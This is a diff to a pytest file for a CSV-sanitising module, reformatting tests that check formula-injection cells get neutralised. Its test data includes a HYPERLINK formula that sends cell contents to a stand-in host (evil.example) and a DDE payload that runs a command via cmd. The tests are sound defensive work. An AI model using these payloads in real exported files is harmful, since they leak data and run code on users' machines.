@@ -14,8 +14,10 @@ from workshop import csv_safe
 HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
 
 
-@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\0=1+1",
-                                  "=cmd|' /C calc'!A0"])
+@pytest.mark.parametrize(
+    "text",
+    [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\0=1+1", "=cmd|' /C calc'!A0"],
+)
 def test_a_cell_that_a_spreadsheet_would_evaluate_is_prefixed(text):
     assert csv_safe.neutralise(text) == "'" + text
 
@@ -31,7 +33,10 @@ def test_a_frame_keeps_its_numbers_and_neutralises_its_text():
                           "minutes since": [-0.5, 1.0], "=total": ["-", "ok"]})
     safe = csv_safe.neutralise_frame(frame)
     assert list(safe["learner"]) == ["'" + HOSTILE, "Ada"]
-    assert list(safe["failed tries"]) == [-1, 3] and safe["failed tries"].dtype == frame["failed tries"].dtype
+    assert (
+        list(safe["failed tries"]) == [-1, 3]
+        and safe["failed tries"].dtype == frame["failed tries"].dtype
+    )
     assert list(safe["minutes since"]) == [-0.5, 1.0]
     assert list(safe.columns) == ["learner", "failed tries", "minutes since", "'=total"]
     assert list(frame["learner"]) == [HOSTILE, "Ada"]  # the original is not changed
